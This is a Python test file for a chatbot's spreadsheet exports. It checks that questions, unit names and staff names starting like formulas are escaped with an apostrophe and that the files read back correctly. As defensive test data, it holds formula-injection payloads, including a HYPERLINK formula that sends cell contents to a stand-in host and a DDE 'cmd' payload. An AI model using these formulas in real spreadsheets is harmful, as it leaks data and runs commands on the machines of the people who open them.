"""Every file a spreadsheet opens keeps text as text: `unanswered --csv` and `progress --xlsx` write a
question, a unit name or a staff name that starts like a formula (=, +, -, @, tab, CR) with an
apostrophe in front, leave numbers and dates alone, and a progress workbook read back keeps its codes."""
import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

import bot
import clock
from handlers.messages import Incoming
from handlers.results_import import import_results
from handlers.spreadsheet_cells import safe_cell, unescape
from storage import results as result_store
from storage.admins import add_admin
from storage.knowledge import reload_from_files
from tests.unit_fixtures import fixture_plans, local, make_unit, real_clock  # noqa: F401

FIXTURE_KNOWLEDGE = Path(__file__).parent / "fixtures" / "knowledge"
FORMULAS = ['=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")', "+84 912 345 678 gọi ai",
            "-2+3+cmd|' /C notepad'!A0", "@SUM(A1:A9) tổng quỹ"]


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-5", "'-5"), ("@đoàn", "'@đoàn"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("Công đoàn = tổ chức", "Công đoàn = tổ chức"), ("", ""), (-5, -5), (2.5, 2.5),
    (None, None)])
def test_text_that_starts_like_a_formula_gets_an_apostrophe_and_reads_back(text, written):
    assert safe_cell(text) == written
    if isinstance(text, str):
        assert unescape(safe_cell(text)) == text


def test_unanswered_csv_writes_questions_typed_as_formulas_as_text(db, tmp_path, monkeypatch, capsys):
    from handlers.assistant import Assistant
    reload_from_files(db, FIXTURE_KNOWLEDGE)
    assistant = Assistant(db)
    for i, text in enumerate(FORMULAS):
        [reply] = assistant.handle(Incoming("telegram", f"chat-{i}", f"u{i}", text))
        assert reply.kind == "not_found", text
    monkeypatch.setenv("KNOWLEDGE_DIR", str(FIXTURE_KNOWLEDGE))
    path = db.execute("PRAGMA database_list").fetchone()[2]
    out_file = tmp_path / "chua-tra-loi.csv"
    assert bot.main(["--db", path, "unanswered", "--csv", str(out_file)]) == 0
    rows = list(csv.reader(out_file.read_text(encoding="utf-8-sig").splitlines()))[1:]
    assert len(rows) == len(FORMULAS)
    for number, question, count, last, texts, ids in rows:
        assert question.startswith("'") and texts.startswith("'"), question
        assert question[1:] in FORMULAS
        assert number.isdigit() and count == "1" and ids.isdigit()  # numbers stay numbers
    starts = {cell[:1] for row in rows for cell in row}
    assert not starts & {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture
def hostile_units(db, fixture_plans, real_clock):
    now = local("2023-03-30 09:00")
    clock.set_now(now)
    make_unit(db, "-CS1", "2023-03-10")
    make_unit(db, "CS2", "2023-03-10")
    for code, name in (("-CS1", '=HYPERLINK("http://ke-xau.example","Công đoàn A")'), ("CS2", "@Công đoàn B")):
        db.execute("UPDATE units SET name = ? WHERE code = ?", (name, code))
    add_admin(db, "telegram", "901", now, name="+Cán bộ phụ trách")
    db.execute("INSERT INTO unit_followers (unit_code, channel, user_id, assigned_by, assigned_at) "
               "VALUES ('CS2', 'telegram', '901', 'test', '2023-03-01T00:00:00+00:00')")
    db.conn.commit()
    return db


def test_the_progress_workbook_holds_no_formula_and_reads_back_into_the_results_import(hostile_units, tmp_path):
    db = hostile_units
    from cli.progress import run_progress
    import io
    path = tmp_path / "tien-do.xlsx"
    assert run_progress(db, None, None, str(path), out=io.StringIO()) == 0
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # no formula anywhere
    wb = load_workbook(path)
    rows = {r[0]: r for r in wb["Đơn vị"].iter_rows(values_only=True)}
    assert rows["'-CS1"][1] == '\'=HYPERLINK("http://ke-xau.example","Công đoàn A")'
    assert rows["CS2"][1] == "'@Công đoàn B" and rows["CS2"][-1] == "'+Cán bộ phụ trách"
    assert all(wb["Đơn vị"].cell(row=r, column=c).data_type != "f" for r in range(1, 4) for c in range(1, 23))
    # An office fills in the result of -CS1 in its copy and imports it back: the code is found.
    ws = wb["Đơn vị"]
    header = [c.value for c in ws[1]]
    line = next(i for i, row in enumerate(ws.iter_rows(values_only=True), start=1) if row[0] == "'-CS1")
    for column, value in {"Hình thức": "toàn thể", "Số triệu tập": 45, "Số có mặt": 40, "Số ủy viên BCH": 7,
                          "Số nữ trong BCH": 2, "Bầu chủ tịch": "Đại hội bầu trực tiếp",
                          "Chức vụ chủ tịch": "Cấp phó của người đứng đầu", "Số ủy viên UBKT": 3,
                          "Số đại biểu dự đại hội cấp trên": 2}.items():
        ws.cell(row=line, column=header.index(column) + 1, value=value)
    filled = tmp_path / "tien-do-da-dien.xlsx"
    wb.save(filled)
    report = import_results(db, filled, local("2023-03-30 10:00"))
    assert report.errors == [] and report.created == 1, report.lines()
    assert result_store.get(db, "-CS1").convened == 45
